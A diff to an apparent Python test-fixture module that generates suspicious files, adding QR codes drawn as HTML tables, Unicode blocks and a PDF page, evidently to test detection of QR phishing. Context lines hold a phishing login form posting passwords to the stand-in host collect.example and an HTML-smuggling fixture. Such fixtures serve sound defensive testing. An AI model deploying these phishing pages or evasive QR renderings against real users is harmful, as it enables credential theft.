@@ -7,6 +7,7 @@ import base64
 import bz2
 import gzip
 import io
+import itertools
 import lzma
 import tarfile
 import zipfile
@@ -138,6 +139,46 @@ def _qr(text: str) -> bytes:
     return stream.getvalue()
 
 
+def _modules(text: str) -> list[list[bool]]:
+    import segno
+
+    return [[bool(module) for module in row] for row in segno.make(text, error="m").matrix_iter(border=0)]
+
+
+def _qr_table(text: str) -> str:
+    """Cells with a ground, equal neighbours of a row joined into one."""
+    rows = []
+    for row in _modules(text):
+        runs = [(dark, len(list(group))) for dark, group in itertools.groupby(row)]
+        cells = (f'<td colspan={n} style="background:{"#111" if dark else "#fff"}"></td>' for dark, n in runs)
+        rows.append(f"<tr height=5>{''.join(cells)}</tr>")
+    return f"<table cellspacing=0 cellpadding=0>{''.join(rows)}</table>"
+
+
+def _qr_blocks(text: str) -> str:
+    modules = _modules(text)
+    below = [*modules[1:], [False] * len(modules)]
+    signs = {(True, True): "\u2588", (True, False): "\u2580", (False, True): "\u2584", (False, False): " "}
+    return "\n".join(
+        "".join(signs[pair] for pair in zip(modules[at], below[at], strict=True)) for at in range(0, len(modules), 2)
+    )
+
+
+DRAWN: dict[str, Callable[[str], str]] = {"table": _qr_table, "blocks": _qr_blocks}
+
+
+def _qr_page(text: str) -> bytes:
+    """A page of A4 with a code of 38 mm on it."""
+    from PIL import Image
+
+    with Image.open(io.BytesIO(_qr(text))) as code:
+        page = Image.new("L", (1240, 1754), 255)
+        page.paste(code.convert("L").resize((225, 225)), (500, 900))
+    stream = io.BytesIO()
+    page.save(stream, "PDF", resolution=150)
+    return stream.getvalue()
+
+
 def _iso(_: str) -> bytes:
     return b"\0" * 0x8001 + b"CD001\x01" + b"\0" * 4000
 
@@ -173,6 +214,7 @@ FILES: dict[str, Callable[[str], bytes]] = {
     "png": lambda _: _qr("no link here, only words"),
     "picture": lambda _: b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
     "pdf": _pdf,
+    "qr-page": _qr_page,
     "smuggler": lambda _: SMUGGLER.encode(),
     "login": lambda _: (
         b"<html><body><form action='https://collect.example/p.php'><input type=password name=p></form></body></html>"
